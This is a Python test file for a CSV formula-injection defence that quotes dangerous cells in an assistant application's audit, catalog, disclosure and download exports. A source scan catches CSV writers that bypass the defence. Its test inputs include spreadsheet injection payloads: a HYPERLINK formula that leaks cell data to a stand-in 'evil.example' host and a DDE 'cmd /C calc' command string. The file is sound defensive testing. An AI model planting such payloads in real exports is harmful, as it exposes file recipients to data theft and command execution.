"""Issue 26, item 4: no CSV the assistant writes starts a cell with a formula. One writer (assistant/csvsafe.py),
each export through it, and a scan of the source tree that fails when a new CSV writer goes around it."""

import ast
import csv
import io
import json
from datetime import date
from decimal import Decimal
from pathlib import Path

import numpy as np
import pytest

from assistant.audit import AuditLog, Receipt
from assistant.csvsafe import safe_cell, to_csv
from assistant.register import disclosure
from assistant.register.entries import build, export, from_record
from assistant.ui.workbench import csv_file

ROOT = Path(__file__).resolve().parents[2]
PLANTED = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(("value", "written"), [
    (PLANTED, "'" + PLANTED), ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"),
    ("-3", "'-3"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("plain text", "plain text"), ("a=b", "a=b"), ("", ""), (" =1", " =1"), ("第一条", "第一条"),
    (-3, -3), (-2.5, -2.5), (Decimal("-1.5"), Decimal("-1.5")), (np.int64(-7), np.int64(-7)), (True, True),
    (None, None), (date(2024, 1, 2), "2024-01-02"),
])
def test_text_that_starts_a_formula_is_quoted_and_numbers_are_not(value: object, written: object) -> None:
    assert safe_cell(value) == written


def test_to_csv_reads_back_as_the_text_with_one_quote_in_front() -> None:
    text = to_csv(["=name", "n"], [[PLANTED, -1], ["ok", 2.5], [None, None]])
    assert list(csv.reader(io.StringIO(text))) == [["'=name", "n"], ["'" + PLANTED, "-1"], ["ok", "2.5"], ["", ""]]


def test_audit_export_csv_quotes_a_planted_question_and_jsonl_keeps_it(tmp_path: Path) -> None:
    log = AuditLog(tmp_path / "audit")
    log.append(Receipt("ask", "@citizen", "citizen", PLANTED))
    [row] = csv.DictReader(io.StringIO(log.export("csv")))
    assert row["question"] == "'" + PLANTED and row["user"] == "'@citizen" and row["id"] == "1"
    assert json.loads(log.export("jsonl"))["question"] == PLANTED


def test_register_export_csv_quotes_planted_catalog_fields() -> None:
    record = {"identifier": "-x1", "title": PLANTED, "publisher": "+Agency", "formats": ["csv"]}
    text = export(build([from_record("-x1", record)], date(2026, 1, 1)), "csv")
    [row] = csv.DictReader(io.StringIO(text))
    assert (row["id"], row["title"], row["publisher"]) == ("'-x1", "'" + PLANTED, "'+Agency")
    assert '"title": "=HYPERLINK' in export(build([from_record("-x1", record)], date(2026, 1, 1)), "json")


def test_disclosure_csv_quotes_a_planted_document_or_dataset_name() -> None:
    document = '=HYPERLINK("evil.example","Law")'  # a file's name: no slash
    receipts = [Receipt("ask", "u", "citizen", "q", sources=[f"/srv/docs/{document}.md"], time="2026-11-15T10:00:00")
                for _ in range(6)]
    receipts += [Receipt("sql.run", "u", "citizen", sql="SELECT 1", datasets={"-evil": "v1"},
                         time="2026-11-15T10:00:00") for _ in range(6)]
    rows = list(csv.DictReader(io.StringIO(disclosure.to_csv(disclosure.build(receipts, {}, threshold=5)))))
    keys = {(r["section"], r["key"]): r["count"] for r in rows}
    assert keys[("documents_cited", "'" + document)] == "6" and keys[("datasets", "'-evil")] == "6"


def test_the_workbench_download_quotes_formulas_and_keeps_numbers(tmp_path: Path,
                                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GRADIO_TEMP_DIR", str(tmp_path))
    path = Path(csv_file(["question", "n"], [[PLANTED, -5], ["-3", 1.5], ["@x", None]]))
    assert list(csv.reader(path.open(encoding="utf-8"))) == [
        ["question", "n"], ["'" + PLANTED, "-5"], ["'-3", "1.5"], ["'@x", ""]]


_WRITER_CALLS = {"writer", "DictWriter"}  # csv's
_FRAME_WRITERS = {"to_csv", "write_csv"}  # pandas', polars'


def _bypasses(tree: ast.AST) -> list[int]:
    """Lines that write CSV without assistant/csvsafe.py: csv.writer/DictWriter, however imported, and a data
    frame's to_csv/write_csv."""
    modules = {a.asname or a.name for n in ast.walk(tree) if isinstance(n, ast.Import) for a in n.names
               if a.name == "csv"}
    names = {a.asname or a.name for n in ast.walk(tree) if isinstance(n, ast.ImportFrom) and n.module == "csv"
             for a in n.names if a.name in _WRITER_CALLS}
    lines = []
    for node in ast.walk(tree):
        if not isinstance(node, ast.Call):
            continue
        func, bad = node.func, False
        if isinstance(func, ast.Name):
            bad = func.id in names
        elif isinstance(func, ast.Attribute):
            receiver = func.value.id if isinstance(func.value, ast.Name) else ""
            bad = (receiver in modules and func.attr in _WRITER_CALLS) or (
                func.attr in _FRAME_WRITERS and receiver not in ("csvsafe", "disclosure"))
        if bad:
            lines.append(node.lineno)
    return lines


def test_no_csv_is_written_around_csvsafe() -> None:
    files = [ROOT / "app.py", *(p for folder in ("assistant", "ingest", "vectorstore") for p in (ROOT / folder).rglob(
        "*.py"))]
    found = [f"{p.relative_to(ROOT)}:{line}" for p in files if p != ROOT / "assistant" / "csvsafe.py"
             for line in _bypasses(ast.parse(p.read_text(encoding="utf-8")))]
    assert found == [], "write CSV with assistant.csvsafe.to_csv / records_to_csv (formula-safe cells)"


def test_the_scan_sees_each_way_of_writing_csv() -> None:
    samples = ["import csv\ncsv.writer(out)", "import csv as c\nc.DictWriter(out, [])",
               "from csv import writer\nwriter(out)", "frame(a, b).to_csv(handle)", "df.to_csv(handle)",
               "table.write_csv('x.csv')"]
    assert all(_bypasses(ast.parse(sample)) for sample in samples)
    assert not _bypasses(ast.parse("import csv\ncsv.reader(x)\nfrom assistant import csvsafe\ncsvsafe.to_csv([], [])"))
